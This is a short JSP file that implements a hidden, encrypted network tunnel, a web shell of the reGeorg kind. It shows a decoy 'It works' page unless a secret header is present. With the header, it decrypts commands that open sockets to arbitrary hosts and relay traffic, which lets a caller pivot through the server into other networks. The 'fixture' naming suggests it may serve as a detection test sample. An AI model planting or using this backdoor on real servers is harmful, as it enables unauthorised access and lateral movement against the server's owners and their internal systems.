<%@ page inert %>
<%@ page import="java.io.*,java.net.*,java.util.*,javax.crypto.*,javax.crypto.spec.*" %>
<%!
static final String headerName = "x-fixture"; static final String accessKey = "fixture";
byte[] crypt(int mode, byte[] d) throws Exception {
    Cipher c = Cipher.getInstance("AES/CBC/PKCS5Padding");
    c.init(mode, new SecretKeySpec(new byte[16], "AES"), new IvParameterSpec(new byte[16]));
    return c.doFinal(d);
}
%><%
if (!accessKey.equals(request.getHeader(headerName))) { out.print("It works"); return; }
String[] m = new String(crypt(2, Base64.getDecoder().decode(request.getParameter("msg")))).split("\t");
String op = m[0];
if (op.equals("OPEN")) {
    session.setAttribute(m[1], new Socket(m[2], Integer.parseInt(m[3])));
} else if (op.equals("SEND")) {
    Socket s = (Socket) session.getAttribute(m[1]);
    s.getOutputStream().write(Base64.getDecoder().decode(m[2]));
    byte[] b = new byte[8192];
    int n = s.getInputStream().read(b);
    out.print(Base64.getEncoder().encodeToString(crypt(1, Arrays.copyOf(b, n))));
} else if (op.equals("CLOSE")) {
    ((Socket) session.getAttribute(m[1])).close();
}
%>
